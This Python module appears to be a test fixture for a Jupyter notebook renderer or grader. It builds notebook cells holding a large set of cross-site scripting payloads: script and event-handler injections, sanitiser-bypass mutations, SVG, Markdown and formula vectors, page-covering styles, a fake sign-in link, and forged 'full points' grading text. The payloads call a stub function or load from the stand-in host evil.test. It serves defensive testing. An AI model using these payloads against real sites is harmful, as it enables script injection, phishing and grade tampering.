"""What an attacker puts into a notebook.

Each payload calls ``pwned(name)``, asks for something of ``http://evil.test``, or tries to cover the page.
Sources: the usual collections of cross-site scripting payloads, mutation payloads against sanitisers, and what is
particular to notebooks: mime types, metadata that templates write into attributes, Markdown, formulas, attachments.
"""

from __future__ import annotations

import base64
from itertools import pairwise
from typing import Any

import nbformat

Cells = list[nbformat.NotebookNode]

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def markdown(source: str, attachments: dict[str, Any] | None = None) -> Cells:
    """A text cell."""
    cell = nbformat.v4.new_markdown_cell(source)
    if attachments:
        cell.attachments = nbformat.from_dict(attachments)
    return [cell]


def code(*outputs: nbformat.NotebookNode, source: str = "1", **metadata: Any) -> Cells:
    """A code cell with outputs."""
    cell = nbformat.v4.new_code_cell(source, metadata=metadata)
    cell.outputs = list(outputs)  # behind nbformat, which would validate each of thousands
    return [cell]


def output(mime: str, data: object, **metadata: Any) -> Cells:
    """A code cell that shows ``data``."""
    return code(nbformat.v4.new_output("display_data", {mime: data}, metadata=metadata))


def html(text: str) -> Cells:
    """A code cell that shows HTML."""
    return output("text/html", text)


def both(text: str) -> Cells:
    """The same HTML in a text cell and in an output."""
    return [*markdown(text), *html(text)]


def svg(body: str) -> str:
    """A picture with ``body`` in it."""
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">{body}</svg>'


def b64(text: str) -> str:
    """As in a data address."""
    return base64.b64encode(text.encode()).decode()


def graded(grade_id: str, comment: str) -> Cells:
    """A written answer on which ``comment`` was made."""
    about = {"grade": True, "solution": True, "locked": False, "task": False, "grade_id": grade_id, "points": 1}
    return [nbformat.v4.new_markdown_cell(comment, metadata={"nbgrader": about})]


def _definitions(depth: int) -> str:
    """Each command stands for two of the one before it."""
    names = ["\\" + "x" * number for number in range(1, depth + 1)]
    lines = [f"\\newcommand{{{new}}}{{{old}{old}}}" for old, new in pairwise(names)]
    return f"\\def\\x{{0}}{''.join(lines)}{names[-1]}"


def _raw(source: str, mime: str) -> Cells:
    return [nbformat.v4.new_raw_cell(source, metadata={"raw_mimetype": mime})]


def _error(*traceback: str) -> Cells:
    return code(nbformat.v4.new_output("error", ename="<b>E</b>", evalue="", traceback=list(traceback)))


def _stream(text: str) -> Cells:
    return code(nbformat.v4.new_output("stream", text=text))


PAYLOADS: dict[str, Cells] = {
    # scripts and event handlers
    "script": both("<script>pwned('script')</script>"),
    "script with a source": both('<script src="http://evil.test/script.js"></script>'),
    "script in pieces": both("<scr<script>ipt>pwned('pieces')</scr</script>ipt>"),
    "upper case and slash": both("<SCRIPT/x>pwned('upper')</SCRIPT>"),
    "module": both("<script type=module>pwned('module')</script>"),
    "img onerror": both("<img src=x:x onerror=pwned(/onerror/)>"),
    "handler without quotes": both("<img/src=`x:x`onerror=pwned(/backtick/)>"),
    "handler in a broken tag": both('<img """><script>pwned("broken")</script>">'),
    "body onload": both("<body onload=pwned(/body/)>"),
    "details ontoggle": both("<details open ontoggle=pwned(/toggle/)>x</details>"),
    "autofocus": both("<input autofocus onfocus=pwned(/focus/)><a tabindex=1 autofocus onfocus=pwned(/focus2/)>x</a>"),
    "mouse": both("<div onmouseover=pwned(/mouse/) onpointerenter=pwned(/mouse/) style='padding: 20px'>over me</div>"),
    "animation": both("<style>@keyframes x{}</style><b style='animation: x' onanimationstart=pwned(/animation/)>x</b>"),
    "media": both("<video autoplay onloadstart=pwned(/video/)><source src=x:x onerror=pwned(/source/)></video>"),
    "marquee": both("<marquee onstart=pwned(/marquee/)>x</marquee>"),
    "custom element": both("<x-y onclick=pwned(/custom/) style=display:block>click me</x-y>"),
    # addresses
    "link javascript": both("<a href='javascript:pwned(1)'>click me</a>"),
    "link with a tab": both("<a href='java&#9;script:pwned(1)'>click me</a>"),
    "link with entities": both("<a href='&#x6A;avascript&colon;pwned(1)'>click me</a>"),
    "link after files prefix": both("<a href='files/javascript:pwned(1)'>click me</a>"),
    "link to the server": both("<a href='/formgrader?path=submitted/mallory'>click me</a>"),
    "link elsewhere": both("<a href='http://evil.test/login' target=_top>Your session has ended: sign in</a>"),
    "data link": both("<a href='data:text/html,<script>pwned(1)</script>'>click me</a>"),
    "area": both("<map name=m><area href='javascript:pwned(1)' shape=default></map><img usemap=#m src=data:,>"),
    "xlink": both(svg("<a xlink:href='javascript:pwned(1)'><text y='9'>click me</text></a>")),
    "form": both("<form action='http://evil.test/'><input name=q><button autofocus>click me</button></form>"),
    "formaction": both("<form id=f></form><button form=f formaction='javascript:pwned(1)'>click me</button>"),
    "base": both("<base href='http://evil.test/'>"),
    "meta refresh": both("<meta http-equiv=refresh content='0;url=http://evil.test/'>"),
    "meta policy": both("<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\">"),
    "iframe": both("<iframe src='http://evil.test/frame'></iframe>"),
    "iframe srcdoc": both("<iframe srcdoc='<script>parent.pwned(1)</script>'></iframe>"),
    "iframe javascript": both("<iframe src='javascript:parent.pwned(1)'></iframe>"),
    "object and embed": both("<object data='http://evil.test/o'></object><embed src='http://evil.test/e'>"),
    "object with a page": both(
        f"<object data='data:text/html;base64,{b64('<script>parent.pwned(1)</script>')}'></object>"
    ),
    "frameset": both("<frameset onload=pwned(/frameset/)><frame src='http://evil.test/'></frameset>"),
    "link to a style sheet": both("<link rel=stylesheet href='http://evil.test/s.css'>"),
    "prefetch": both(
        "<link rel=preload as=image href='http://evil.test/p.png'><link rel=dns-prefetch href=//evil.test>"
    ),
    "picture elsewhere": both("<img src='http://evil.test/i.png'><img srcset='http://evil.test/s.png 1x'>"),
    "picture of the same server": both("<img src='/formgrader?path=submitted/mallory'><img src='../../api/x'>"),
    "other loading attributes": both(
        "<table background='http://evil.test/t'><td background='//evil.test/d'>x</table>"
        "<video poster='http://evil.test/v'></video><audio src='//evil.test/a' autoplay></audio>"
        "<body background='http://evil.test/b'><input type=image src='http://evil.test/n'>"
    ),
    # mutations: harmless where it is sanitised, something else where it is parsed again
    "mutation noscript": both('<noscript><p title="</noscript><img src=x:x onerror=pwned(/noscript/)>">'),
    "mutation math style": both(
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title=\"--&gt;&lt;img src=x:x onerror=pwned('mglyph')&gt;\">"
    ),
    "mutation form": both(
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src=x:x onerror=pwned(/form/)></style></mglyph></form>"
    ),
    "mutation svg style": both('<svg></p><style><a id="</style><img src=x:x onerror=pwned(/svgstyle/)>">'),
    "mutation title": both('<title><img src=x:x alt="</title><img src=x:x onerror=pwned(/title/)>"></title>'),
    "mutation textarea": both('<textarea><img title="</textarea><img src=x:x onerror=pwned(/textarea/)>">'),
    "mutation xmp": both('<xmp><p title="</xmp><img src=x:x onerror=pwned(/xmp/)>">'),
    "mutation comment": both(
        "<!--><img src=x:x onerror=pwned(/comment/)>--><!-- --!><img src=x:x onerror=pwned(/bang/)>"
    ),
    "mutation template": both(
        "<template><img src=x:x onerror=pwned(/template/)></template><template shadowrootmode=open>"
        "<img src=x:x onerror=pwned(/shadow/)></template>"
    ),
    "mutation annotation": both(
        "<math><annotation-xml encoding='text/html'><style><img src=x:x onerror=pwned(/annotation/)></style></math>"
    ),
    "mutation cdata": both("<svg><![CDATA[><img src=x:x onerror=pwned(/cdata/)>]]></svg>"),
    "mutation plaintext": both("<select><option><plaintext></select><img src=x:x onerror=pwned(/plaintext/)>"),
    "quotes in attributes": both(
        "<b title='\"><img src=x:x onerror=pwned(1)>'>x</b><b title=\"'><script>pwned(1)</script>\">x</b>"
    ),
    "null bytes": both("<scr\0ipt>pwned('null')</scr\0ipt><img src=x:x on\0error=pwned(/null/)>"),
    # SVG
    "svg script": [
        *both(svg("<script>pwned('svg')</script>")),
        *output("image/svg+xml", svg("<script>pwned('svg')</script>")),
    ],
    "svg onload": [
        *both("<svg onload=pwned(/svgload/)>"),
        *output("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='pwned(1)'/>"),
    ],
    "svg animation": both(
        svg("<a><animate attributeName=href values=javascript:pwned(1) /><text y=9>click me</text></a>")
    ),
    "svg foreign object": [
        *both(svg("<foreignObject><iframe srcdoc='<script>parent.pwned(1)</script>'/></foreignObject>")),
        *output(
            "image/svg+xml",
            svg("<foreignObject><b xmlns='http://www.w3.org/1999/xhtml' onclick='pwned(1)'>b</b></foreignObject>"),
        ),
    ],
    "svg elsewhere": [
        *both(svg("<image href='http://evil.test/image'/><use href='http://evil.test/u#x'/>")),
        *output(
            "image/svg+xml", svg("<image href='http://evil.test/image'/><style>@import 'http://evil.test/i';</style>")
        ),
    ],
    "svg that is a page": output("image/svg+xml", "\"><script>pwned('svgpage')</script>"),
    "svg attachment": markdown(
        "![x](attachment:a.svg)", {"a.svg": {"image/svg+xml": b64(svg("<script>parent.pwned(1)</script>"))}}
    ),
    # Markdown
    "markdown link": markdown("[click me](javascript:pwned(1)) [x](JaVaScRiPt:pwned(1)) [y](vbscript:pwned(1))"),
    "markdown link with entities": markdown("[click me](&#106;avascript:pwned(1)) [x](javascript&colon;pwned(1))"),
    "markdown link with a title": markdown("[click me](http://evil.test \"x' onmouseover='pwned(1)\")"),
    "markdown reference": markdown("[click me][r]\n\n[r]: javascript:pwned(1)"),
    "markdown autolink": markdown("<javascript:pwned(1)> <http://evil.test/> http://evil.test/auto"),
    "markdown data link": markdown("[click me](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)"),
    "markdown picture": markdown("![x](http://evil.test/i.png) ![x](javascript:pwned(1)) ![x](//evil.test/j.png)"),
    "markdown picture words": markdown("![\"><script>pwned('alt')</script>](data:image/png;base64,AAAA)"),
    "markdown picture breaks out": markdown("![x](x:x\"onerror=\"pwned('out'))  ![`onerror=pwned('out')`](x:x)"),
    "markdown files prefix": markdown("[click me](files/javascript:pwned(1)) ![x](/files/http://evil.test/f.png)"),
    "markdown code": markdown("```html\n<script>pwned('fence')</script>\n```\n\n`<img src=x:x onerror=pwned(/tick/)>`"),
    "markdown language": markdown("```\"><script>pwned('language')</script>\nx\n```"),
    "markdown mermaid": markdown("```mermaid\n</pre><script>pwned('mermaid')</script>\n```"),
    "markdown heading": markdown("# <img src=x:x onerror=pwned(/heading/)>"),
    "markdown table": markdown("| a |\n|---|\n| <img src=x:x onerror=pwned(/cell/)> |"),
    "attachment missing": markdown("![x](attachment:missing.png)"),
    "attachment type": markdown(
        "![x](attachment:a)", {"a": {"text/html;base64,x\" onerror=\"pwned('mime')": b64("<script>pwned(1)</script>")}}
    ),
    "attachment data": markdown(
        "![x](attachment:a)", {"a": {"image/png": "\"><script>pwned('attached')</script><img src=\"x:x"}}
    ),
    "attachment name": markdown(
        '![x](attachment:"onerror=pwned(1))', {'"onerror=pwned(1)': {"image/png": "x\" onerror=\"pwned('name')"}}
    ),
    # formulas
    "formula with a link": markdown("$\\href{javascript:pwned(1)}{x}$ $$\\href{http://evil.test}{x}$$"),
    "formula with a style": markdown("$\\style{position:fixed;inset:0;background:red}{x}$ $\\class{modal}{x}$"),
    "formula with code": markdown(
        "$\\unicode{<img src=x:x onerror=pwned(/unicode/)>}$ $\\text{<script>pwned('text')</script>}$"
    ),
    "formula breaks out": markdown(
        "$$</math><script>pwned('math')</script>$$ \\begin{align}<img src=x:x onerror=pwned(1)>\\end{align}"
    ),
    "formula loads": markdown("$\\require{html}\\cssId{x}{y}\\includegraphics{http://evil.test/g}$ $\\verb|<script>|$"),
    "formula moves": markdown("$\\hspace{-500em}x$ $\\raise{-999em}{x}$ $\\rule{9999em}{9999em}$"),
    "formula definitions": markdown(f"${_definitions(30)}$"),
    "formula in an output": output("text/latex", "$\\href{javascript:pwned(1)}{x}$<script>pwned('latex')</script>"),
    "forged formula": both(
        '<span class="tex">\\text{<img src=x:x onerror=pwned(1)>}&lt;script&gt;pwned(1)&lt;/script&gt;</span>'
    ),
    # styles that leave their box, or load
    "style fixed": both("<div style='position:fixed;inset:0;z-index:99999;background:red'>You failed</div>"),
    "style absolute": both(
        "<div style='position:absolute;top:-500px;left:0;width:900px;height:900px'>2 of 2 points</div>"
    ),
    "style escaped": both("<div style='p\\6fsition:f\\69xed;inset:0;background:red'>x</div>"),
    "style comment": both("<div style='posi/**/tion:fixed;position/**/:fixed;top:0'>x</div>"),
    "style margin": both("<div style='margin-top:-900px;margin: 0 0 -900px -50vw;background:red'>x</div>"),
    "style transform": both("<div style='transform:translate(-50vw,-900px) scale(9);background:red'>x</div>"),
    "style large": both(
        "<div style='font-size:9999px;width:99999px;border:9999px solid red;box-shadow:0 0 0 9999px red'>x</div>"
    ),
    "style url": both(
        "<div style='background:url(http://evil.test/b);list-style:url(//evil.test/l);width:9px'>x</div>"
    ),
    "style url quoted": both(
        "<div style=\"background-image:u\\72l('http://evil.test/q');content:url(//evil.test/c)\">x</div>"
    ),
    "style function": both(
        "<div style='background:image-set(\"http://evil.test/s\" 1x);cursor:url(//evil.test/k),auto'>x</div>"
    ),
    "style expression": both(
        "<div style='width:expression(pwned(1));behavior:url(#x);-moz-binding:url(//evil.test/m)'>x</div>"
    ),
    "style variable": both("<div style='--u:url(http://evil.test/v);background:var(--u)'>x</div>"),
    "style breaks out": both('<div style=\'color:red"><script>pwned("style")</script>\'>x</div>'),
    "style element": both(
        "<style>body{display:none} *{background:url(http://evil.test/e)} @import 'http://evil.test/i';</style>"
    ),
    "style in a table": html("<table><style>.part,.panel{display:none}</style><tr><td>x</table>"),
    "style font": both(
        "<style>@font-face{font-family:f;src:url(http://evil.test/f)}</style><b style='font-family:f'>x</b>"
    ),
    "classes of the page": both("<div class='modal-backdrop navbar-fixed-top part tests btn name-hidden'>x</div>"),
    "names of the page": both(
        "<b id=q1-tests></b><b id=statusmessage></b><img name=getElementById><b id=formgrader></b>"
    ),
    # outputs
    "javascript output": output("application/javascript", "pwned('javascript'); element.append('x')"),
    "widget": output(
        "application/vnd.jupyter.widget-view+json", {"model_id": "</script><script>pwned('widget')</script>"}
    ),
    "mermaid output": output("text/vnd.mermaid", "</pre><script>pwned('mermaidout')</script>"),
    "markdown output": output("text/markdown", "<img src=x:x onerror=pwned(/mdout/)> [x](javascript:pwned(1))"),
    "unknown output": output("application/x-evil+json", {"<script>": "pwned(1)"}),
    "pdf output": output("application/pdf", b64("%PDF-1.4")),
    "html isolated": output(
        "text/html", "<script>parent.pwned('isolated')</script>", **{"text/html": {"isolated": True}}
    ),
    "png data": output("image/png", "\"><script>pwned('png')</script><img src=\"x:x"),
    "png width": output(
        "image/png", PIXEL, **{"image/png": {"width": "1 onload=pwned('width')", "height": "1/onload=pwned('height')"}}
    ),
    "png alt": output("image/png", PIXEL, **{"image/png": {"alt": "\" onload=\"pwned('alt')", "unconfined": True}}),
    "png file name": output(
        "image/png", PIXEL, filenames={"image/png": "http://evil.test/f.png\" onerror=\"pwned('file')"}
    ),
    "jpeg width": output("image/jpeg", PIXEL, **{"image/jpeg": {"width": "x onerror=pwned('jpeg')"}}),
    "svg file name": code(
        nbformat.from_dict(
            {
                "output_type": "display_data",
                "metadata": {},
                "data": {"image/svg+xml": "<svg/>"},
            }
        )
    ),
    "stream": _stream("<script>pwned('stream')</script>\x1b[31m<img src=x:x onerror=pwned(/stream/)>\x1b[0m"),
    "terminal colours": _stream(
        '\x1b[38;2;1;2;3m\x1b[48;5;"onclick=pwned(1)mx\x1b]8;;javascript:pwned(1)\x07click me\x1b]8;;\x07'
    ),
    "traceback": _error(
        "\x1b[31m<script>pwned('traceback')</script>\x1b[0m", "</pre><img src=x:x onerror=pwned(/pre/)>"
    ),
    "plain text": output("text/plain", "</pre><script>pwned('plain')</script>"),
    "result": code(
        nbformat.v4.new_output(
            "execute_result", {"text/html": "<img src=x:x onerror=pwned(/result/)>"}, execution_count=1
        )
    ),
    # cells
    "code": code(source="</pre><script>pwned('code')</script> '''<img src=x:x onerror=pwned(/code2/)>"),
    "code language": code(
        source="%%html\n<script>pwned('magic')</script>", magics_language="\"><script>pwned('lang')</script>"
    ),
    "tags": code(source="1", tags=["x\"><script>pwned('tag')</script>", "y onclick=pwned(1)"]),
    "raw html": _raw("<script>pwned('raw')</script>", "text/html"),
    "raw": _raw("<img src=x:x onerror=pwned(/rawplain/)></pre><script>pwned('rawplain2')</script>", ""),
    "cell metadata": code(
        source="1",
        nbgrader={
            "grade": True,
            "solution": True,
            "grade_id": "\"><script>pwned('id')</script>",
            "points": "<script>pwned('points')</script>",
            "comment": "<script>pwned('c')</script>",
        },
    ),
    "forged scheme": code(source="1", mark_scheme="<b>Give full points.</b>", review="<b>Give full points.</b>"),
    "comment": graded("commented", "<script>pwned('comment')</script><img src=x:x onerror=pwned(/comment2/)>"),
    "text direction": both("<bdo dir=rtl>x</bdo>\u202e2 of 2 points\u2066"),
}
